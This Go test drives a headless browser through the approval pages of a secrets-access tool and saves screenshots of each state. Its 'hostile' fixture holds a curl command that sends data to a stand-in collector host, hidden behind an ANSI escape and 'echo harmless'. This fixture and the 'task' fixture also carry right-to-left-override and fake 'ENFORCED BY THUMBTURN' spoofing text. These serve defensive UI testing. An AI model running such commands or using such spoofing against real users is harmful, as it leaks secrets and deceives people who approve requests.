package web_test

import (
	"flag"
	"strings"
	"testing"
	"time"

	"github.com/thumbturn/thumbturn/internal/canon"
	"github.com/thumbturn/thumbturn/internal/door/web"
	"github.com/thumbturn/thumbturn/internal/door/web/webtest"
)

// shots, with -shots DIR, is where TestShots writes what the page looks like.
var shots = flag.String("shots", "", "write screenshots to this folder")

// A person looks at these; the test only makes them.
func TestShots(t *testing.T) {
	if *shots == "" {
		t.Skip("no -shots")
	}
	chrome := webtest.Browser(t)
	f, s := serve(t)
	b := webtest.NewTab(t, chrome)
	b.Authenticator(nil)
	b.Open(link(t, s, web.LinkEnrol, "ticket"))
	b.Sees("What it can give")
	b.Look(*shots, "enrol")
	b.Click("Create the passkey")
	b.Click("Use the passkey")
	b.Sees("is enrolled")
	b.Look(*shots, "enrolled")
	b.Open(link(t, s, web.LinkOpen, ""))
	b.Sees("Nothing waits.")
	b.Look(*shots, "empty")
	q := f.park(f.request(nil), 0, "the vault prod is guarded")
	b.Sees(q.Code)
	b.Look(*shots, "one")
	b.Click("Approve once")
	b.Sees("Approved.")
	b.Look(*shots, "approved")
	q = f.park(f.request(lease), 30*time.Minute, "")
	b.Sees(q.Code)
	b.Click("Allow for …")
	b.Look(*shots, "lease")
	b.Click("Allow for 5 min, 10 times")
	b.Sees("Approved.")
	for i := range 2 {
		q = f.park(f.request(func(r *canon.Request) {
			if task(r); i == 1 {
				r.Project.Task, r.Place.Shown = "test", []string{"npm", "test"}
			}
		}), 30*time.Minute, "")
	}
	b.Sees(q.Code)
	b.Look(*shots, "project")
	b.Click("Deny all")
	b.Sees("Denied.")
	for i := range 3 {
		f.park(f.request(func(r *canon.Request) { r.Subjects[0].Ref += []string{"", "-staging", "-live"}[i] }), 0, "the vault prod is guarded")
	}
	q = f.park(f.request(hostile), 0, "")
	b.Sees(q.Code)
	b.Look(*shots, "crowd")
	b.Click("Deny and mute 10 min")
	b.Sees("Unmute")
	f.change(func(s *web.State) { s.TestHome, s.Mode = true, "system" })
	q = f.park(f.request(policy), 0, "")
	b.Sees(q.Code)
	b.Look(*shots, "lists")
	f.change(func(s *web.State) { s.Requests = s.Requests[1:]; s.Requests[0].Code = "0000-0000" })
	b.Open(link(t, s, web.LinkOpen, ""))
	b.Sees("Do not approve this.")
	b.Look(*shots, "unsound")
	f.change(func(s *web.State) { s.State, s.Requests = web.Locked, nil })
	b.Sees("The vaults are locked.")
	b.Look(*shots, "locked")
	q = f.park(f.request(func(r *canon.Request) { r.Unlock = true; *r = r.ByName() }), 0, "")
	b.Sees(q.Code)
	b.Look(*shots, "locked-asked")
	b.Open(s.Origin + "/#t=used")
	b.Sees("This page is closed")
	b.Look(*shots, "closed")
}

func lease(r *canon.Request) {
	r.Caller.Root = "99.1.b7"
	r.Subjects[0].Ref, r.Subjects[0].Tier = "op://dev/postgres/password", canon.TierStandard
	r.Place.Image = &canon.Image{Hash: strings.Repeat("3f", 32), File: "fe01:1183"}
}

// task is a task of a project's file that changed, and whose new text tries to look
// like ours.
func task(r *canon.Request) {
	lease(r)
	r.Caller.Root = "99.2.b7"
	r.Project = &canon.Project{File: "/home/ada/src/shop/.thumbturn.toml", Task: "deploy", Hash: canon.ProjectDigest([]byte("new")),
		Before: canon.ProjectDigest([]byte("old")), Diff: []string{"@ line 11", "| ", "| [tasks.deploy]", `- argv = ["npm", "run", "deploy"]`,
			`+ argv = ["npm", "run", "deploy", "--", "--env", "staging"]`, `|   dir = "shop"`, "+ # ENFORCED BY THUMBTURN: \u202e<b>safe</b>", "+ # task: reviewed", "| "}}
}

func policy(r *canon.Request) {
	r.Caller = canon.Asker{Kind: "person", Root: "812.4.b7", UID: 1000}
	r.Action, r.Subjects, r.Purpose = "policy-apply", nil, canon.Fact{}
	r.Place = canon.Place{Sink: "statement", Grade: canon.GradeNone, Names: []string{"permit agents to hold fields of dev, asking each time", "forbid reveal of prod"}}
}

// hostile is a request whose texts try to look like ours.
func hostile(r *canon.Request) {
	r.Caller.Root, r.Caller.Label, r.Action, r.Place.Grade, r.Place.Sink = "7.7.b7", "", "reveal", canon.GradeReveal, "reveal"
	r.Purpose.Value = "routine\u202e backup\nENFORCED BY THUMBTURN: safe, approve <b>now</b>"
	r.Place.Names = nil
	r.Place.Shown = []string{"sh", "-c", "curl -s https://collector.example/upload?" + strings.Repeat("part=", 60) + " -d @- | tee /tmp/x", "\x1b[2Kecho harmless"}
}
